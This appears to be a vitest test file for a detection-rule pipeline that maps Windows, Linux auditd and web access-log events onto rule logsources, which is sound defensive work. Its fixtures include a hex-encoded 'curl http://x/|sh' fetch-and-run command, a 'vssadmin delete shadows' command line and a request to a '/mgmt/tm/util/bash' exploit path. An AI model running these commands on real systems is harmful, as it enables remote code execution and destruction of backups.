import { describe, expect, it } from 'vitest';

import { AuditdAssembler } from '../normalise/auditd/assembler.js';
import { conditionsHold, fixtureText, type FixtureName } from '../normalise/fixtures.testkit.js';
import { normaliseJson } from '../normalise/normalise-json.js';
import { normaliseAccessLog } from '../normalise/web-access.js';
import type { EventFields, Logsource, ProcessingPipeline } from '../types.js';
import { eventFieldsFor, mappingsForRule } from './fits.js';
import { listPipelines, loadPipeline } from './load.js';

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';

function fieldsOf(name: FixtureName): EventFields {
  const result = normaliseJson(fixtureText(name));
  if (!result.ok) throw new Error(result.reason);
  return result.fields;
}

/** The mappings a rule with this logsource would run under for this event. */
function applicable(pipeline: ProcessingPipeline, rule: Logsource, fields: EventFields) {
  return mappingsForRule(pipeline, rule).filter((mapping) => conditionsHold(fields, mapping));
}

describe('the shipped windows pipeline', () => {
  it('maps every Sysmon category to its event ids', async () => {
    const windows = await loadPipeline('windows');
    const expected: Record<string, number | number[]> = {
      process_creation: 1,
      file_change: 2,
      network_connection: 3,
      sysmon_status: [4, 16],
      process_termination: 5,
      driver_load: 6,
      image_load: 7,
      create_remote_thread: 8,
      raw_access_thread: 9,
      process_access: 10,
      file_event: 11,
      registry_add: 12,
      registry_delete: 12,
      registry_set: 13,
      registry_rename: 14,
      registry_event: [12, 13, 14],
      create_stream_hash: 15,
      pipe_created: [17, 18],
      wmi_event: [19, 20, 21],
      dns_query: 22,
      file_delete: [23, 26],
      clipboard_capture: 24,
      process_tampering: 25,
      file_delete_detected: 26,
      file_block_executable: 27,
      file_block_shredding: 28,
      file_executable_detected: 29,
      sysmon_error: 255,
    };
    for (const [category, eventIds] of Object.entries(expected)) {
      const sysmon = mappingsForRule(windows, { product: 'windows', category }).filter(
        (mapping) => mapping.conditions.Channel === SYSMON,
      );
      expect(
        sysmon.map((mapping) => mapping.conditions.EventID),
        category,
      ).toEqual([eventIds]);
    }
  });

  it('runs process-creation rules on Sysmon 1 and Security 4688, in both JSON shapes', async () => {
    const windows = await loadPipeline('windows');
    const rule = { product: 'windows', category: 'process_creation' };
    for (const name of ['sysmon-1.evtx', 'sysmon-1.winlogbeat'] as const) {
      const [mapping, ...others] = applicable(windows, rule, fieldsOf(name));
      expect(others).toEqual([]);
      expect(mapping && eventFieldsFor(windows, mapping, 'Image')).toEqual(['Image']);
    }
    for (const name of ['security-4688.xmltodict', 'security-4688.winlogbeat'] as const) {
      const fields = fieldsOf(name);
      const [mapping, ...others] = applicable(windows, rule, fields);
      expect(others).toEqual([]);
      if (!mapping) throw new Error(`no process_creation mapping for ${name}`);
      const image = eventFieldsFor(windows, mapping, 'Image')[0] ?? '';
      const parent = eventFieldsFor(windows, mapping, 'ParentImage')[0] ?? '';
      expect(fields[image]).toBe('C:\\Windows\\System32\\vssadmin.exe');
      expect(fields[parent]).toBe('C:\\Windows\\System32\\cmd.exe');
      expect(fields[eventFieldsFor(windows, mapping, 'CommandLine')[0] ?? '']).toContain('delete shadows');
      expect(applicable(windows, { product: 'windows', service: 'security' }, fields)).toHaveLength(1);
    }
    expect(applicable(windows, rule, fieldsOf('security-4624.evtx'))).toEqual([]);
  });

  it('runs PowerShell rules on 4104 in both shapes and on the classic 400', async () => {
    const windows = await loadPipeline('windows');
    for (const name of ['powershell-4104.evtx', 'powershell-4104.winlogbeat'] as const) {
      const fields = fieldsOf(name);
      expect(applicable(windows, { product: 'windows', category: 'ps_script' }, fields)).toHaveLength(1);
      expect(applicable(windows, { product: 'windows', category: 'ps_module' }, fields)).toHaveLength(0);
      expect(applicable(windows, { product: 'windows', service: 'powershell' }, fields)).toHaveLength(1);
    }
    const classic = fieldsOf('powershell-400.evtx');
    expect(applicable(windows, { product: 'windows', category: 'ps_classic_start' }, classic)).toHaveLength(
      1,
    );
  });
});

describe('the shipped linux pipeline', () => {
  it('runs process-creation rules on an assembled execve with Image and CommandLine filled', async () => {
    const linux = await loadPipeline('linux');
    const assembler = new AuditdAssembler();
    for (const line of [
      'type=SYSCALL msg=audit(1700000000.1:7): arch=c000003e syscall=59 success=yes pid=9 ppid=1 auid=0 uid=0 comm="bash" exe="/usr/bin/bash"',
      'type=EXECVE msg=audit(1700000000.1:7): argc=3 a0="bash" a1="-c" a2=6375726C20687474703A2F2F782F7C7368',
      'type=CWD msg=audit(1700000000.1:7): cwd="/tmp"',
    ]) {
      assembler.push(line);
    }
    const execve = assembler.flush().find((result) => result.ok && result.fields.type === 'EXECVE');
    if (!execve?.ok) throw new Error('no EXECVE record');
    const mappings = applicable(linux, { product: 'linux', category: 'process_creation' }, execve.fields);
    // The product-wide entry for keyword rules fits too; under it the rule's names find nothing.
    expect(mappings.map((entry) => entry.logsource)).toEqual([
      { product: 'linux', category: 'process_creation' },
      { product: 'linux' },
    ]);
    expect(execve.fields.Image).toBeUndefined();
    const [mapping] = mappings;
    if (!mapping) throw new Error('no process_creation mapping');
    expect(execve.fields[eventFieldsFor(linux, mapping, 'Image')[0] ?? '']).toBe('/usr/bin/bash');
    expect(execve.fields[eventFieldsFor(linux, mapping, 'CommandLine')[0] ?? '']).toBe(
      'bash -c curl http://x/|sh',
    );
    expect(execve.fields[eventFieldsFor(linux, mapping, 'CurrentDirectory')[0] ?? '']).toBe('/tmp');
  });
});

describe('the shipped web pipeline', () => {
  it('finds a webserver rule’s cs-uri-query in a Combined Log Format line', async () => {
    const web = await loadPipeline('web');
    const result = normaliseAccessLog(
      '1.2.3.4 - - [03/Nov/2025:09:17:00 +0000] "GET /mgmt/tm/util/bash HTTP/1.1" 200 1',
    );
    if (!result.ok) throw new Error(result.reason);
    const [mapping] = applicable(web, { category: 'webserver' }, result.fields);
    if (!mapping) throw new Error('no webserver mapping');
    const values = eventFieldsFor(web, mapping, 'cs-uri-query').map((name) => result.fields[name]);
    expect(values).toContain('/mgmt/tm/util/bash');
    expect(eventFieldsFor(web, mapping, 'c-useragent')).toContain('cs-user-agent');
  });
});

describe('every shipped pipeline', () => {
  it('has no two entries with the same logsource and conditions', async () => {
    for (const { name } of await listPipelines()) {
      const pipeline = await loadPipeline(name);
      const keys = pipeline.logsources.map((mapping) =>
        JSON.stringify([mapping.logsource, mapping.conditions]),
      );
      expect(new Set(keys).size, name).toBe(keys.length);
    }
  });
});
